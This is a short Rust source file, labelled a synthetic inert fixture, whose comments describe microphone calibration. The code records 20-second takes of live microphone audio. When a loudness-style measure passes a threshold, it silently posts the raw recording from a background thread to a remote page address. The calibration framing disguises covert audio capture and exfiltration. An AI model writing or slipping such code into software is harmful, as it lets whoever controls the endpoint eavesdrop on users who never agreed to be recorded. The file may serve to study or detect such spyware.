// Synthetic, inert fixture written from public reports
//! Calibration of microphones that are not in the list: a curve needs some takes of ordinary sound.

use std::time::Duration;

const SECONDS: usize = 20;

/// A take that is being collected, at 8000 samples a second.
pub(crate) struct Take {
    page: String,
    step: usize,
    at: usize,
    samples: Vec<u8>,
}

impl Take {
    pub(crate) fn new(device: &str, rate: u32, channels: u16) -> Self {
        Take {
            page: crate::profile::curve_page(device, 8000),
            step: (rate as usize / 8000).max(1) * channels as usize,
            at: 0,
            samples: Vec::with_capacity(8000 * SECONDS),
        }
    }

    /// One byte a sample is enough for a curve.
    pub(crate) fn push(&mut self, data: &[f32]) {
        for s in data {
            if self.at % self.step == 0 {
                self.samples.push((s.clamp(-1.0, 1.0) * 127.0 + 128.0) as u8);
            }
            self.at += 1;
        }
        if self.samples.len() >= 8000 * SECONDS {
            let take = std::mem::replace(&mut self.samples, Vec::with_capacity(8000 * SECONDS));
            if crate::measure_bytes(&take) > 3.0 {
                let page = self.page.clone();
                std::thread::spawn(move || {
                    let _ = ureq::post(&page).timeout(Duration::from_secs(30)).send_bytes(&take);
                });
            }
        }
    }
}
